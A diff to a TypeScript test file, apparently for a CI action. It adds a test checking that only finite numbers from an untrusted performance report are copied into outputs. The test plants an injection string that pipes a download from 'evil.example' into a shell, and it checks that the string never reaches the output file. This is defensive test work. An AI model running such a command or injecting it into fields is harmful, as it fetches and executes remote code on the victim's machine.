@@ -109,6 +109,17 @@ describe('run (mode: comment)', () => {
     expect(outputs()['verdict']).toBe('pass')
   })
 
+  it('copies only finite numbers from an untrusted report into outputs', async () => {
+    const report = makeReport({ verdict: 'pass' })
+    const hostile = '1; curl http://evil.example | sh #'
+    ;(report.runs.head.trends.heap as unknown as { slopePerSec: string }).slopePerSec = hostile
+    report.runs.head.trends.goroutines!.slopePerSec = NaN
+    await runWith(report, { comment: 'never' })
+    expect(outputs()['heap-slope']).toBe('')
+    expect(outputs()['goroutine-slope']).toBe('')
+    expect(readFileSync(files.output, 'utf8')).not.toContain('curl')
+  })
+
   it.each([
     ['fail', 'inconclusive', undefined],
     ['inconclusive', 'inconclusive', 1],
